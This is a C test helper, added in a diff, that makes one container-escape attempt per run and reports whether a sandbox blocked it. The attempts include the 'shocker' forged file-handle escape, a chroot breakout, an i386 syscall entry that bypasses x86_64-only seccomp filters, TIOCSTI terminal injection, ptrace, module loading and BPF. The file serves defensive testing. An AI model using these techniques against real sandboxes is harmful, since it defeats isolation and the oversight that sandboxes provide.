@@ -1,0 +1,245 @@
+/* probe: one escape attempt per run, for tests/escape.rs.
+ *
+ * Compiled statically at test time (cc -static) and copied into the test
+ * rootfs, so it needs nothing from the container. `probe NAME [ARGS]` makes
+ * the system call(s) NAME stands for and prints "ok" when the attempt
+ * worked, or the name of the errno it failed with ("EPERM"). "ids" prints
+ * the effective uid and capabilities instead. Harmless when an attempt
+ * works: files are only opened for writing, never written; the module is
+ * garbage the kernel refuses to link; the terminal gets a '#'.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/bpf.h>
+#include <linux/keyctl.h>
+#include <linux/perf_event.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/ioctl.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static int report(long rc) {
+    if (rc < 0) {
+        const char *name = strerrorname_np(errno);
+        printf("%s\n", name ? name : "E?");
+        return 1;
+    }
+    printf("ok\n");
+    return 0;
+}
+
+static void need(int argc, int n, const char *usage) {
+    if (argc < n) {
+        fprintf(stderr, "usage: probe %s\n", usage);
+        exit(2);
+    }
+}
+
+/* A trivial socket filter: r0 = 0; exit. */
+static long load_bpf(void) {
+    struct bpf_insn insns[] = {
+        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0},
+        {.code = BPF_JMP | BPF_EXIT},
+    };
+    union bpf_attr attr;
+    memset(&attr, 0, sizeof attr);
+    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
+    attr.insns = (unsigned long)insns;
+    attr.insn_cnt = 2;
+    attr.license = (unsigned long)"GPL";
+    return syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
+}
+
+/* Counting our own CPU clock: what an unprivileged host process may do at
+ * perf_event_paranoid <= 2. */
+static long open_perf_event(void) {
+    struct perf_event_attr attr;
+    memset(&attr, 0, sizeof attr);
+    attr.size = sizeof attr;
+    attr.type = PERF_TYPE_SOFTWARE;
+    attr.config = PERF_COUNT_SW_TASK_CLOCK;
+    attr.exclude_kernel = 1;
+    return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
+}
+
+static long load_module(const char *path) {
+    static char image[4096];
+    int fd = open(path, O_RDONLY);
+    if (fd < 0)
+        return -1;
+    ssize_t n = read(fd, image, sizeof image);
+    close(fd);
+    if (n < 0)
+        return -1;
+    return syscall(SYS_init_module, image, (unsigned long)n, "");
+}
+
+static long load_module_fd(const char *path) {
+    int fd = open(path, O_RDONLY);
+    if (fd < 0)
+        return -1;
+    return syscall(SYS_finit_module, fd, "", 0);
+}
+
+/* A child in a new user namespace through clone(2) rather than unshare(2). */
+static long clone_user_ns(void) {
+    pid_t pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
+    if (pid == 0)
+        _exit(0);
+    if (pid > 0)
+        waitpid(pid, NULL, 0);
+    return pid;
+}
+
+/* The "shocker" attack: open the filesystem's root directory (inode 2 on
+ * ext4) by a forged handle, bypassing the mount namespace. `path` is any
+ * file on the same filesystem, to learn the handle type from. */
+static long open_by_forged_handle(const char *path) {
+    struct {
+        struct file_handle h;
+        unsigned char bytes[MAX_HANDLE_SZ];
+    } fh;
+    int mount_id;
+    fh.h.handle_bytes = MAX_HANDLE_SZ;
+    if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, &fh.h, &mount_id, 0) < 0)
+        return -1;
+    unsigned int root[2] = {2, 0}; /* inode 2, generation 0 */
+    memcpy(fh.h.f_handle, root, sizeof root);
+    fh.h.handle_bytes = sizeof root;
+    int mount_fd = open(path, O_RDONLY);
+    if (mount_fd < 0)
+        return -1;
+    return syscall(SYS_open_by_handle_at, mount_fd, &fh.h, O_RDONLY | O_DIRECTORY);
+}
+
+/* The classic chroot breakout: chroot into a subdirectory while keeping the
+ * cwd outside it, walk up, and chroot to where the walk ended. Then try to
+ * see `marker`. */
+static long chroot_breakout(const char *jail, const char *marker) {
+    mkdir(jail, 0700);
+    if (chdir("/") < 0 || chroot(jail) < 0)
+        return -1;
+    for (int i = 0; i < 64; i++)
+        if (chdir("..") < 0)
+            return -1;
+    if (chroot(".") < 0)
+        return -1;
+    return open(marker, O_RDONLY);
+}
+
+/* keyctl(KEYCTL_JOIN_SESSION_KEYRING, NULL) through the i386 system call
+ * entry (int 0x80, i386 number 288): a filter that checks only x86_64
+ * numbers would let it through. */
+static long i386_keyctl(void) {
+    long rc;
+    __asm__ volatile("int $0x80" : "=a"(rc) : "a"(288L), "b"(1L), "c"(0L) : "memory");
+    if (rc < 0 && rc > -4096) {
+        errno = (int)-rc;
+        return -1;
+    }
+    return rc;
+}
+
+static int ids(void) {
+    char line[256];
+    FILE *status = fopen("/proc/self/status", "r");
+    printf("euid=%u\n", (unsigned)geteuid());
+    while (status && fgets(line, sizeof line, status))
+        if (strncmp(line, "CapEff:", 7) == 0)
+            fputs(line, stdout);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    need(argc, 2, "NAME [ARGS]");
+    const char *name = argv[1];
+    if (!strcmp(name, "ids"))
+        return ids();
+    if (!strcmp(name, "keyctl"))
+        return report(syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "ctrsh-escape"));
+    if (!strcmp(name, "add_key"))
+        return report(syscall(SYS_add_key, "user", "ctrsh-escape", "x", 1,
+                              KEY_SPEC_PROCESS_KEYRING));
+    if (!strcmp(name, "i386_keyctl"))
+        return report(i386_keyctl());
+    if (!strcmp(name, "bpf"))
+        return report(load_bpf());
+    if (!strcmp(name, "perf_event_open"))
+        return report(open_perf_event());
+    if (!strcmp(name, "unshare_user"))
+        return report(unshare(CLONE_NEWUSER));
+    if (!strcmp(name, "clone_user"))
+        return report(clone_user_ns());
+    if (!strcmp(name, "init_module")) {
+        need(argc, 3, "init_module FILE");
+        return report(load_module(argv[2]));
+    }
+    if (!strcmp(name, "finit_module")) {
+        need(argc, 3, "finit_module FILE");
+        return report(load_module_fd(argv[2]));
+    }
+    if (!strcmp(name, "openw")) {
+        need(argc, 3, "openw PATH");
+        return report(open(argv[2], O_WRONLY));
+    }
+    if (!strcmp(name, "open")) {
+        need(argc, 3, "open PATH");
+        return report(open(argv[2], O_RDONLY));
+    }
+    if (!strcmp(name, "mount_tmpfs")) {
+        need(argc, 3, "mount_tmpfs DIR");
+        return report(mount("tmpfs", argv[2], "tmpfs", 0, NULL));
+    }
+    if (!strcmp(name, "umount")) {
+        need(argc, 3, "umount PATH");
+        return report(umount2(argv[2], MNT_DETACH));
+    }
+    if (!strcmp(name, "pivot_root")) {
+        need(argc, 4, "pivot_root NEW PUT_OLD");
+        return report(syscall(SYS_pivot_root, argv[2], argv[3]));
+    }
+    if (!strcmp(name, "ptrace")) {
+        need(argc, 3, "ptrace PID");
+        return report(ptrace(PTRACE_ATTACH, atoi(argv[2]), 0, 0));
+    }
+    if (!strcmp(name, "kill0")) {
+        need(argc, 3, "kill0 PID");
+        return report(kill(atoi(argv[2]), 0));
+    }
+    if (!strcmp(name, "open_by_handle")) {
+        need(argc, 3, "open_by_handle PATH");
+        return report(open_by_forged_handle(argv[2]));
+    }
+    if (!strcmp(name, "chroot_breakout")) {
+        need(argc, 4, "chroot_breakout JAIL MARKER");
+        return report(chroot_breakout(argv[2], argv[3]));
+    }
+    if (!strcmp(name, "tiocsti")) {
+        /* Push a harmless '#' into the input of the terminal on fd 0, or
+         * of the terminal at PATH (/dev/tty: the controlling one). */
+        char c = '#';
+        int fd = argc > 2 ? open(argv[2], O_RDWR | O_NOCTTY) : 0;
+        if (fd < 0)
+            return report(-1);
+        return report(ioctl(fd, TIOCSTI, &c));
+    }
+    if (!strcmp(name, "raise_nofile")) {
+        need(argc, 3, "raise_nofile HARD");
+        struct rlimit r;
+        getrlimit(RLIMIT_NOFILE, &r);
+        r.rlim_max = strtoul(argv[2], NULL, 10);
+        return report(setrlimit(RLIMIT_NOFILE, &r));
+    }
+    fprintf(stderr, "probe: unknown attempt '%s'\n", name);
+    return 2;
+}
